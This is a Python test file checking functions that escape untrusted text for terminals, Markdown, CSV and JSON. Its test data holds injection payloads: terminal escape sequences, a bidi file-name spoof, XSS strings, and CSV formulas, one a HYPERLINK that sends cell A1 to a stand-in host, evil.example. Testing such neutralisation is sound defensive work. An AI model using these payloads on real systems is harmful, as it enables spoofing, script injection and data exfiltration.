"""Escaping untrusted text for a terminal, Markdown, CSV and JSON (pure functions)."""

from __future__ import annotations

import csv
import io
import json
import unicodedata

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nexus_audit.domain.escape import csv_cell, json_text, markdown, terminal

OSC_TITLE = "\x1b]0;pwned\x07"
CSI_CLEAR = "\x1b[2J"


def test_terminal_shows_control_sequences_as_escapes() -> None:
    """ESC (CSI and OSC), CR, LF, tab, BEL, C1 CSI, bidi and zero-width characters come out
    as visible escapes; printable text, non-ASCII letters and the ASCII space do not."""
    assert terminal(f"b-1{OSC_TITLE}{CSI_CLEAR}") == "b-1\\x1b]0;pwned\\x07\\x1b[2J"
    assert terminal("a\r\nnexus-audit: ok\tz") == "a\\r\\nnexus-audit: ok\\tz"
    assert terminal("x\x9b31m\x7f\x00") == "x\\x9b31m\\x7f\\x00"
    assert terminal("evil\u202etxt.exe\u200b\ufeff\u2028") == \
        "evil\\u202etxt.exe\\u200b\\ufeff\\u2028"
    assert terminal("priv\u00a0ate \U000e0041") == "priv\\xa0ate \\U000e0041"
    assert terminal("région → ≤ 東京 b-1 public-read") == "région → ≤ 東京 b-1 public-read"
    assert terminal("trace\n  line 2\x1b", keep_newlines=True) == "trace\n  line 2\\x1b"


@settings(max_examples=200)
@given(st.text())
def test_terminal_output_has_nothing_a_terminal_interprets(text: str) -> None:
    """Whatever the input, the output is one line of printable characters (and spaces)."""
    out = terminal(text)
    assert all(ch == " " or ch.isprintable() for ch in out), ascii(out)
    assert unicodedata.category(out[0]) not in ("Cc", "Cf") if out else True


def test_markdown_cells_cannot_break_a_row_or_carry_html() -> None:
    """Pipes, backslashes, backticks, emphasis and link brackets are backslash-escaped;
    <, >, & become entities; line breaks and ESC are visible escapes (escaped again)."""
    assert markdown("<img src=x onerror=alert(1)>") == "&lt;img src=x onerror=alert(1)&gt;"
    assert markdown("<script>alert('x')</script>") == \
        "&lt;script&gt;alert('x')&lt;/script&gt;"
    assert markdown("a|b\\c`d`*e*[l](http://e.example)&amp;") == \
        "a\\|b\\\\c\\`d\\`\\*e\\*\\[l\\](http://e.example)&amp;amp;"
    assert markdown("b\r\n# heading") == "b\\\\r\\\\n# heading"
    assert markdown(f"b{CSI_CLEAR}") == "b\\\\x1b\\[2J"


@pytest.mark.parametrize("value", [
    '=HYPERLINK("http://evil.example/"&A1,"open")', "+1+1", "-2+3", "@SUM(A1)", "\t=1",
    "\r=1", "-"])
def test_csv_text_starting_like_a_formula_is_neutralised(value: str) -> None:
    """OWASP: a text cell starting with = + - @ tab or CR gets a leading quote, and a CSV
    reader reads that quote back."""
    assert csv_cell(value) == "'" + value
    buffer = io.StringIO()
    csv.writer(buffer).writerow([csv_cell(value), "x"])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'" + value, "x"]


@pytest.mark.parametrize("value", [-3.5, -1, 0, 12.25, None, "b-1", "public-read", " =1",
                                   "2026-03-01T00:00:00Z", "x=1"])
def test_csv_numbers_and_plain_text_pass(value: object) -> None:
    """Numbers (negative ones too) and text not starting like a formula are unchanged."""
    assert csv_cell(value) is value


def test_json_text_escapes_c1_and_line_separators_and_reads_back() -> None:
    """C1 controls, DEL and U+2028/U+2029 are written as \\u escapes: the same JSON value,
    and no line-based reader sees a line break inside an event."""
    value = {"id": "b\x85\u2028\u2029\x9b[2J\x7fé"}
    text = json_text(json.dumps(value, ensure_ascii=False))
    assert text == '{"id": "b\\u0085\\u2028\\u2029\\u009b[2J\\u007fé"}'
    assert len(text.splitlines()) == 1
    assert json.loads(text) == value


def test_json_text_of_ascii_escapes_del_alone() -> None:
    """All-ASCII text (most reports) comes back as it is, except DEL, ASCII's one
    character to escape."""
    plain = json.dumps({"id": "i-1", "n": [1, 2.5]})
    assert json_text(plain) is plain
    assert json_text('{"id": "a\x7f"}') == '{"id": "a\\u007f"}'
